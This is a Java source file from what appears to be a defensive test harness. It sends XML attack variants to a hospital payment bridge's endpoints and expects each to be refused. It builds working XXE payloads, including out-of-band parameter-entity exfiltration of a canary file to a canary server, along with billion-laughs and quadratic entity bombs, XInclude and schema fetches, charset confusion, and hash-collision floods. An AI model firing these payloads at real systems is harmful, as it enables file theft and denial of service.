package io.opdbridge.tools.attack;

import io.opdbridge.tools.attack.Attack.Variant;
import org.jspecify.annotations.Nullable;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** Attacks inside the XML of a request. */
final class XmlAttacks {

    /** Just under the largest body that a target takes by default. */
    private static final int MUCH = 1_000_000;
    private static final int DEEP = 200_000;
    private static final int BRIEF = 60;

    private final Scene scene;
    private final Target target;
    private final String file;
    private final String server;

    private XmlAttacks(Scene scene) {
        this.scene = scene;
        this.target = scene.target();
        this.file = scene.canaries().fileUrl();
        this.server = scene.canaries().serverUrl();
    }

    static List<Attack> all(Scene scene) {
        XmlAttacks attacks = new XmlAttacks(scene);
        return List.of(
                new Attack("doctype", "DOCTYPE, entities and their bombs in each charset", false, attacks::doctypes),
                new Attack("extension", "the same in the CDATA of MedicalExtension, which nobody parses", false,
                        attacks::extensions),
                new Attack("charset", "bytes that are not of the charset that is said", false, attacks::charsets),
                new Attack("external", "XInclude, schema hints, stylesheets, links: nobody follows them", false,
                        attacks::externals),
                new Attack("size", "depth, attributes, names and texts without end", false, attacks::sizes),
                new Attack("syntax", "characters and constructs that XML forbids", false, attacks::syntax));
    }

    /** The three sources of a charset: content type, byte-order mark, declaration. */
    private record Encoding(String name, Charset charset, String contentType, String mark, @Nullable String declared) {

        byte[] encode(String xml) {
            String declaration = declared == null ? "" : "<?xml version=\"1.0\" encoding=\"" + declared + "\"?>";
            return Target.encode(mark + declaration + xml, charset);
        }
    }

    private static List<Encoding> encodings() {
        List<Encoding> encodings = new ArrayList<>();
        for (String name : List.of("UTF-8", "GBK", "GB2312", "GB18030", "ISO-8859-1", "US-ASCII", "UTF-16LE",
                "UTF-16BE")) {
            Charset charset = Charset.forName(name);
            boolean wide = name.startsWith("UTF-16");
            encodings.add(new Encoding(name + " by content type", charset, "text/xml; charset=" + name, "", null));
            if (wide || name.equals("UTF-8")) {
                encodings.add(new Encoding(name + " by content type, with mark", charset, "text/xml; charset=" + name,
                        "\uFEFF", null));
                encodings.add(new Encoding(name + " by mark", charset, "text/xml", "\uFEFF", null));
                encodings.add(new Encoding(name + " by mark, declared", charset, "text/xml", "\uFEFF",
                        wide ? "UTF-16" : name));
            }
            encodings.add(new Encoding(name + (wide ? " unmarked, declared" : " declared"), charset, "text/xml", "",
                    wide ? "UTF-16" : name));
        }
        encodings.add(new Encoding("UTF-16LE unmarked", StandardCharsets.UTF_16LE, "text/xml", "", null));
        encodings.add(new Encoding("UTF-16BE unmarked", StandardCharsets.UTF_16BE, "text/xml", "", null));
        encodings.add(
                new Encoding("UTF-16 by content type", StandardCharsets.UTF_16, "text/xml; charset=UTF-16", "", null));
        encodings.add(new Encoding("nothing said", StandardCharsets.UTF_8, "text/xml", "", null));
        return encodings;
    }

    /** Name → DOCTYPE; each gives the entity e, which stands in the TransactionCode that answers echo. */
    private Map<String, String> payloads() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE Req [<!ENTITY e0 'ha'>");
        for (int i = 1; i < 30; i++) {
            laughs.append("<!ENTITY e").append(i).append(" '").append(("&e" + (i - 1) + ";").repeat(10)).append("'>");
        }
        Map<String, String> payloads = new LinkedHashMap<>();
        payloads.put("empty", "<!DOCTYPE Req>");
        payloads.put("internal entity", "<!DOCTYPE Req [<!ENTITY e 'x'>]>");
        payloads.put("file", "<!DOCTYPE Req [<!ENTITY e SYSTEM '" + file + "'>]>");
        payloads.put("network", "<!DOCTYPE Req [<!ENTITY e SYSTEM '" + server + "e'>]>");
        payloads.put("public", "<!DOCTYPE Req [<!ENTITY e PUBLIC '-//W3C//TEXT e//EN' '" + server + "e'>]>");
        payloads.put("external subset", "<!DOCTYPE Req SYSTEM '" + server + "e.dtd'>");
        payloads.put("public external subset",
                "<!DOCTYPE Req PUBLIC '-//W3C//DTD XHTML 1.0//EN' '" + server + "e.dtd'>");
        payloads.put("parameter entity", "<!DOCTYPE Req [<!ENTITY % p SYSTEM '" + server + "p.dtd'>%p;]>");
        payloads.put("parameter entity out of band", "<!DOCTYPE Req [<!ENTITY % f SYSTEM '" + file + "'><!ENTITY % p "
                + "\"<!ENTITY &#37; q SYSTEM '" + server + "?%f;'>\">%p;%q;]>");
        payloads.put("billion laughs", laughs.append("<!ENTITY e '&e29;'>]>").toString());
        payloads.put("quadratic", "<!DOCTYPE Req [<!ENTITY a '" + "x".repeat(50_000) + "'><!ENTITY e '"
                + "&a;".repeat(10_000) + "'>]>");
        payloads.put("endless", "<!DOCTYPE Req [<!ENTITY e '&f;'><!ENTITY f '&e;'>]>");
        payloads.put("default of an attribute", "<!DOCTYPE Req [<!ATTLIST Req a CDATA 'x'><!ENTITY e 'x'>]>");
        payloads.put("notation", "<!DOCTYPE Req [<!NOTATION n SYSTEM '" + server + "n'><!ENTITY e SYSTEM '" + server
                + "u' NDATA n>]>");
        payloads.put("after a comment", "<!-- x --><?x y?>\n<!DOCTYPE Req [<!ENTITY e 'x'>]>");
        return payloads;
    }

    private List<Variant> doctypes() {
        List<Variant> variants = new ArrayList<>();
        payloads().forEach((name, doctype) -> {
            String entity = doctype.contains("ENTITY e ") ? "&e;" : "";
            String xml = doctype
                    + Target.listXml(entity, "<CardType>1</CardType><CardNo>" + target.cardNo() + "</CardNo>");
            encodings().forEach(encoding -> variants.add(Variant.of(name + ", " + encoding.name(),
                    target.list(encoding.contentType(), encoding.encode(xml)),
                    Expectation.envelope(200, Scene.FORBIDDEN_XML))));
        });
        variants.add(list("in lower case", "<!doctype Req [<!entity e 'x'>]>" + target.listXml(), Scene.MALFORMED_XML));
        variants.add(list("twice", "<!DOCTYPE Req><!DOCTYPE Req>" + target.listXml(), Scene.FORBIDDEN_XML));
        variants.add(list("unfinished", "<!DOCTYPE Req [<!ENTITY e SYSTEM '" + server + "'>", Scene.FORBIDDEN_XML,
                Scene.MALFORMED_XML));
        variants.add(list("inside the root", "<Req><!DOCTYPE Req SYSTEM '" + server + "'></Req>", Scene.MALFORMED_XML));
        for (String entity : List.of("&e;", "&nbsp;", "%e;&e;")) {
            variants.add(list("undeclared " + entity, Target.listXml(entity, "<CardNo>1</CardNo>"), Scene.FORBIDDEN_XML,
                    Scene.MALFORMED_XML));
        }
        variants.add(Variant.of("in a form", target.list("application/x-www-form-urlencoded", Target.ascii("param="
                + percent("<!DOCTYPE Req [<!ENTITY e SYSTEM '" + file + "'>]>" + Target.listXml("&e;", "")))),
                Expectation.envelope(200, Scene.FORBIDDEN_XML)));
        return variants;
    }

    private List<Variant> extensions() {
        List<Variant> variants = new ArrayList<>();
        payloads().forEach((name, doctype) -> variants.add(freeze(name, doctype + "<x>&e;</x>")));
        variants.add(
                freeze("XInclude", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + server + "'/>"));
        variants.add(freeze("stylesheet", "<?xml-stylesheet href='" + server + "' type='text/xsl'?><x/>"));
        variants.add(freeze("no XML", "<<&&\u4e2d"));
        return variants;
    }

    /** A freeze of an order that does not exist: refused, whatever the extension holds. */
    private Variant freeze(String name, String extension) {
        String xml = "<Req><TransactionCode/><Data><HisFlowNo>ATTACK</HisFlowNo><OrderId>ATTACK</OrderId>"
                + "<CardNo>ATTACK</CardNo><CardType>1</CardType><HisID>ATTACK</HisID><Price>1</Price><PayWay>1</PayWay>"
                + "<TransNo>ATTACK</TransNo><TransTime>2026-01-01 00:00:00</TransTime><ChannelId>1</ChannelId>"
                + "<MedicalExtension><![CDATA[" + extension + "]]></MedicalExtension></Data></Req>";
        return Variant.of(name, target.post(target.his("OPDRechargeFreeze"), Target.XML, Target.encode(xml,
                StandardCharsets.UTF_8)), Expectation.envelope(200, Scene.NO_SUCH_RECHARGE));
    }

    private List<Variant> charsets() {
        Expectation malformed = Expectation.envelope(200, Scene.MALFORMED_XML);
        Expectation unknown = Expectation.envelope(415, Scene.UNSUPPORTED_ENCODING);
        String list = target.listXml();
        String doctype = "<!DOCTYPE Req [<!ENTITY e SYSTEM '" + file + "'>]>" + Target.listXml("&e;", "");
        List<Variant> variants = new ArrayList<>();
        // a text that is readable without the claim may be read without it
        Expectation untrue = Expectation.envelope(200, Scene.FORBIDDEN_XML);
        for (String name : List.of("UTF-7", "IBM037", "IBM500", "UTF-32", "UTF-32BE", "UTF-32LE", "Shift_JIS", "x-none",
                "ISO-2022-KR", "HZ-GB-2312", "CESU-8", "../../etc/passwd", "%0d%0a", "a".repeat(5_000))) {
            variants.add(bytes("content type says " + brief(name), "text/xml; charset=" + name, Target.ascii(doctype),
                    unknown));
        }
        for (String name : List.of("UTF-7", "IBM037", "UTF-32", "Shift_JIS", "x-none", "CESU-8")) {
            variants.add(
                    bytes("declaration says " + name, "text/xml", Target.ascii("<?xml version='1.0' encoding='" + name
                            + "'?>" + doctype), unknown.or(untrue)));
        }
        for (Charset real : List.of(Charset.forName("IBM037"), Charset.forName("UTF-32BE"),
                Charset.forName("UTF-32LE"))) {
            variants.add(bytes("really " + real + ", unsaid", "text/xml", Target.encode(doctype, real),
                    malformed.or(unknown)));
            variants.add(bytes("really " + real + ", said to be UTF-8", Target.XML, Target.encode(doctype, real),
                    malformed));
        }
        variants.add(
                bytes("UTF-32 with mark", "text/xml", Target.encode("\uFEFF" + doctype, Charset.forName("UTF-32LE")),
                        malformed.or(unknown)));
        variants.add(bytes("UTF-16 said to be UTF-8", Target.XML, Target.encode(doctype, StandardCharsets.UTF_16LE),
                malformed));
        variants.add(bytes("UTF-8 said to be UTF-16", "text/xml; charset=UTF-16", Target.ascii(doctype),
                malformed.or(untrue)));
        variants.add(
                bytes("DOCTYPE in UTF-7", Target.XML, Target.ascii("+ADw-+ACE-DOCTYPE Req+AD4-" + list), malformed));
        variants.add(bytes("overlong <", Target.XML, Target.join(new byte[] {(byte) 0xC0, (byte) 0xBC},
                Target.ascii(doctype.substring(1))), malformed));
        variants.add(bytes("overlong NUL in a value", Target.XML, around("<CardNo>", 0xC0, 0x80), malformed));
        variants.add(bytes("surrogates in UTF-8", Target.XML, around("<CardNo>", 0xED, 0xA0, 0x80, 0xED, 0xB0, 0x80),
                malformed));
        variants.add(bytes("beyond Unicode", Target.XML, around("<CardNo>", 0xF4, 0x90, 0x80, 0x80), malformed));
        variants.add(bytes("cut character", Target.XML, around("<CardNo>", 0xE4, 0xB8), malformed));
        variants.add(bytes("lone surrogate in UTF-16", "text/xml; charset=UTF-16BE", Target.join(
                Target.encode("<Req><Data><CardNo>", StandardCharsets.UTF_16BE), new byte[] {(byte) 0xD8, 0},
                Target.encode("</CardNo></Data></Req>", StandardCharsets.UTF_16BE)), malformed));
        variants.add(bytes("odd number of bytes in UTF-16", "text/xml; charset=UTF-16LE",
                Target.join(Target.encode(list, StandardCharsets.UTF_16LE), new byte[] {0}), malformed));
        variants.add(bytes("half a GBK character before a tag", "text/xml; charset=GBK", around("<CardNo>", 0x81),
                malformed));
        variants.add(
                bytes("half a GB18030 character", "text/xml; charset=GB18030", around("<CardNo>", 0x81, 0x30, 0x81),
                        malformed));
        variants.add(bytes("no ASCII", "text/xml; charset=US-ASCII", around("<CardNo>", 0xFF, 0xFE), malformed));
        variants.add(bytes("the declaration contradicts the content type", Target.XML,
                Target.ascii("<?xml version='1.0' encoding='UTF-16'?>" + list), Expectation.same(scene.normal())));
        variants.add(bytes("two charsets", "text/xml; charset=UTF-8; charset=UTF-16", Target.ascii(list),
                Expectation.same(scene.normal())));
        return variants;
    }

    private List<Variant> externals() {
        List<Variant> variants = new ArrayList<>();
        String card = "<CardType>" + target.cardType() + "</CardType><CardNo>" + target.cardNo() + "</CardNo>";
        for (String url : List.of(file, server)) {
            String kind = url.equals(file) ? "file" : "network";
            variants.add(
                    same("XInclude of a " + kind, "<Req xmlns:xi='http://www.w3.org/2001/XInclude'><TransactionCode/>"
                            + "<Data>" + card + "<xi:include href='" + url + "' parse='text'/></Data></Req>"));
            variants.add(list("XInclude of a " + kind + " as a value",
                    "<Req xmlns:xi='http://www.w3.org/2001/XInclude'>"
                            + "<TransactionCode/><Data><CardNo><xi:include href='" + url
                            + "' parse='text'/></CardNo></Data></Req>",
                    Scene.BAD_VALUE));
            variants.add(list("XInclude of a " + kind + " as TransactionCode", "<Req xmlns:xi='http://www.w3.org/2001/"
                    + "XInclude'><TransactionCode><xi:include href='" + url + "' parse='text'/></TransactionCode><Data>"
                    + card
                    + "</Data></Req>", Scene.BAD_VALUE));
            variants.add(list("XInclude of a " + kind + " as the root",
                    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
                            + "href='" + url + "'/>",
                    Scene.MALFORMED_XML));
            String xsi = " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' ";
            variants.add(same("schemaLocation, " + kind,
                    attributes(xsi + "xsi:schemaLocation='urn:x " + url + "x.xsd'", card)));
            variants.add(
                    same("noNamespaceSchemaLocation, " + kind, attributes(xsi + "xsi:noNamespaceSchemaLocation='" + url
                            + "x.xsd'", card)));
            variants.add(same("xsi:type, " + kind, attributes(xsi + "xmlns:u='" + url + "' xsi:type='u:x'", card)));
            variants.add(same("namespace, " + kind, attributes(" xmlns='" + url + "'", card)));
            variants.add(same("xml:base, " + kind, attributes(" xml:base='" + url + "'", card)));
            variants.add(
                    same("xlink, " + kind, attributes(" xmlns:l='http://www.w3.org/1999/xlink' l:type='simple' l:href='"
                            + url + "' l:show='embed' l:actuate='onLoad'", card)));
            variants.add(same("stylesheet, " + kind, "<?xml-stylesheet type='text/xsl' href='" + url + "x.xsl'?>"
                    + target.listXml()));
            variants.add(same("model, " + kind, "<?xml-model href='" + url + "x.rng'?>" + target.listXml()));
            variants.add(same("catalog, " + kind, "<?oasis-xml-catalog catalog='" + url + "'?>" + target.listXml()));
        }
        return variants;
    }

    private List<Variant> sizes() {
        List<Variant> variants = new ArrayList<>();
        String deep = "<a>".repeat(DEEP);
        variants.add(list("200,000 levels", deep, Scene.FORBIDDEN_XML, Scene.MALFORMED_XML));
        variants.add(list("200,000 levels in Data", "<Req><Data>" + deep, Scene.FORBIDDEN_XML));
        variants.add(list("200,000 levels in a value", "<Req><Data><CardNo>" + deep, Scene.BAD_VALUE));
        variants.add(list("200,000 levels, whole", "<Req><Data>" + "<a>".repeat(DEEP / 2) + "</a>".repeat(DEEP / 2)
                + "</Data></Req>", Scene.FORBIDDEN_XML));
        StringBuilder attributes = new StringBuilder();
        StringBuilder prefixes = new StringBuilder();
        for (int i = 0; attributes.length() < MUCH - 1_000; i++) {
            attributes.append(" a").append(i).append("=''");
        }
        for (int i = 0; prefixes.length() < MUCH - 1_000; i++) {
            prefixes.append(" xmlns:a").append(i).append("='u'");
        }
        String card = "<CardType>1</CardType><CardNo>1</CardNo>";
        variants.add(
                list("a hundred thousand attributes", attributes(attributes.toString(), card), Scene.MALFORMED_XML));
        variants.add(list("fifty thousand namespaces", attributes(prefixes.toString(), card), Scene.MALFORMED_XML,
                Scene.OK));
        variants.add(Variant.of("a million attributes", target.list(attributes(attributes.toString().repeat(10), card)),
                Expectation.envelope(413, Scene.TOO_LARGE)));
        variants.add(list("a name of a megabyte", "<" + "R".repeat(MUCH) + "/>", Scene.MALFORMED_XML, Scene.TOO_LARGE));
        variants.add(list("an unknown name of half a megabyte",
                "<Req><Data>" + card + "<" + "a".repeat(MUCH / 2) + "/></Data></Req>",
                Scene.OK, Scene.MALFORMED_XML));
        variants.add(list("a value of a megabyte", "<Req><Data><CardNo>" + "1".repeat(MUCH) + "</CardNo></Data></Req>",
                Scene.BAD_VALUE));
        variants.add(list("a TransactionCode of a megabyte of tags", Target.listXml("&lt;".repeat(MUCH / 4), ""),
                Scene.MISSING_FIELD, Scene.BAD_VALUE));
        variants.add(
                list("a comment of a megabyte", "<Req><!--" + "x".repeat(MUCH) + "--></Req>", Scene.MISSING_FIELD));
        variants.add(
                list("100,000 references", "<Req><Data><CardNo>" + "&#49;".repeat(MUCH / 10) + "</CardNo></Data></Req>",
                        Scene.BAD_VALUE));
        variants.add(list("100,000 elements", "<Req><Data>" + "<a/>".repeat(MUCH / 10) + "</Data></Req>",
                Scene.MISSING_FIELD));
        variants.add(list("names with one hash", "<Req><Data>" + colliding("<", "/>") + "</Data></Req>",
                Scene.FORBIDDEN_XML));
        variants.add(list("attributes with one hash", "<Req" + colliding(" ", "=''") + "/>", Scene.MALFORMED_XML));
        variants.add(list("attributes with one hash, spread",
                "<Req><Data><a " + colliding("", "=''/><a ") + "/></Data></Req>",
                Scene.FORBIDDEN_XML));
        variants.add(list("prefixes with one hash",
                "<Req><Data><a xmlns:" + colliding("", "='u'/><a xmlns:") + "a='u'/></Data></Req>",
                Scene.FORBIDDEN_XML));
        variants.add(
                list("instructions with one hash", "<Req>" + colliding("<?", "?>") + "</Req>", Scene.FORBIDDEN_XML));
        variants.add(list("blanks without end", " ".repeat(MUCH), Scene.MALFORMED_XML));
        variants.add(list("ampersands without end", "<Req><Data><CardNo>" + "&".repeat(MUCH), Scene.MALFORMED_XML));
        variants.add(
                list("CDATA without end", "<Req><Data><CardNo>" + "<![CDATA[".repeat(MUCH / 10), Scene.MALFORMED_XML));
        variants.add(
                list("a declaration without end", "<?xml " + "version='1.0' ".repeat(MUCH / 20), Scene.MALFORMED_XML));
        variants.add(list("code after code", "<TransactionCode>".repeat(MUCH / 20), Scene.MALFORMED_XML,
                Scene.FORBIDDEN_XML));
        return variants;
    }

    /** Names of one length and one hash: Aa and BB have the same, by the formula that Java's strings have. */
    private static String colliding(String before, String after) {
        StringBuilder xml = new StringBuilder();
        for (int i = 0; xml.length() < MUCH - 1_000; i++) {
            xml.append(before);
            for (int bit = 0; bit < 15; bit++) {
                xml.append((i >> bit & 1) == 0 ? "Aa" : "BB");
            }
            xml.append(after);
        }
        return xml.toString();
    }

    private List<Variant> syntax() {
        List<Variant> variants = new ArrayList<>();
        for (String bad : List.of("\u0000", "\u0001", "\u001b[31m", "\u007f&#0;", "&#1;", "&#27;", "&#xD800;",
                "&#xFFFE;",
                "&#xFFFF;", "&#x110000;", "&#99999999999999999999;", "&#-1;", "&#x;", "&#;", "&;", "&", "&#49",
                "\uFFFE", "\uFFFF",
                "<", "]]>", "<!-- -- -->", "<![CDATA[", "<![cdata[x]]>", "<?xml version='1.0'?>", "</Req>", "<?x",
                "<a b=1/>",
                "<a b='1' b='2'/>", "<a b='<'/>", "<a xmlns:n='u' xmlns:m='u' n:b='1' m:b='2'/>", "<n:a/>", "<a:b:c/>",
                "<a xmlns:xml='u'/>", "<a xmlns:n=''/>", "<a xmlns:xmlns='u'/>", "<1/>", "<a/ >", "< a/>", "<a></ a>",
                "</>", "<>")) {
            variants.add(list("value with " + brief(bad),
                    Target.listXml("", "<CardNo>1</CardNo><Unknown>" + bad + "</Unknown>"),
                    Scene.MALFORMED_XML));
        }
        variants.add(
                list("control characters of XML 1.1", "<?xml version='1.1'?>" + Target.listXml("&#1;&#27;", "<CardNo>1"
                        + "</CardNo>"), Scene.MALFORMED_XML));
        variants.add(list("XML 2.0", "<?xml version='2.0'?>" + target.listXml(), Scene.MALFORMED_XML));
        variants.add(list("standalone='maybe'", "<?xml version='1.0' standalone='maybe'?>" + target.listXml(),
                Scene.MALFORMED_XML));
        variants.add(list("text after the root", target.listXml() + "x", Scene.MALFORMED_XML));
        variants.add(Variant.of("NUL after the root", target.list(target.listXml() + "\u0000"),
                Expectation.envelope(200, Scene.MALFORMED_XML).or(Expectation.same(scene.normal()))));
        variants.add(list("a second root", target.listXml() + target.listXml(), Scene.MALFORMED_XML));
        variants.add(list("a field twice", Target.listXml("", "<CardNo>1</CardNo><CardNo>2</CardNo>"),
                Scene.DUPLICATE_FIELD));
        variants.add(list("a field twice, in namespaces", Target.listXml("", "<CardNo>1</CardNo><n:CardNo xmlns:n='u'>2"
                + "</n:CardNo>"), Scene.DUPLICATE_FIELD));
        variants.add(list("Data twice", "<Req><Data><CardNo>1</CardNo></Data><Data><CardNo>2</CardNo></Data></Req>",
                Scene.DUPLICATE_FIELD));
        byte[] noise = new byte[4096];
        new Random(1).nextBytes(noise);
        variants.add(bytes("noise", "application/xml; charset=ISO-8859-1", noise,
                Expectation.envelope(200, Scene.MALFORMED_XML)));
        variants.add(list("nothing", "", Scene.MALFORMED_XML));
        variants.add(list("JSON", "{\"Req\":{}}", Scene.MALFORMED_XML));
        return variants;
    }

    private Variant list(String name, String xml, Integer... codes) {
        return Variant.of(name, target.list(xml), Expectation.envelope(200, codes));
    }

    private Variant same(String name, String xml) {
        return Variant.of(name, target.list(xml), Expectation.same(scene.normal()));
    }

    private Variant bytes(String name, String contentType, byte[] body, Expectation expected) {
        return Variant.of(name, target.list(contentType, body), expected);
    }

    private static byte[] around(String before, int... bytes) {
        byte[] middle = new byte[bytes.length];
        for (int i = 0; i < bytes.length; i++) {
            middle[i] = (byte) bytes[i];
        }
        return Target.join(Target.ascii("<Req><Data>" + before), middle, Target.ascii("</CardNo></Data></Req>"));
    }

    private static String attributes(String attributes, String card) {
        return "<Req" + attributes + "><TransactionCode/><Data>" + card + "</Data></Req>";
    }

    static String percent(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            encoded.append('%').append(String.format("%02x", b));
        }
        return encoded.toString();
    }

    /** A name for a report, which is written to a terminal. */
    static String brief(String text) {
        StringBuilder brief = new StringBuilder();
        text.chars().limit(BRIEF)
                .forEach(c -> brief.append(c < ' ' || c > '~' ? String.format("\\u%04x", c) : (char) c));
        return brief + (text.length() > BRIEF ? "…" : "");
    }
}
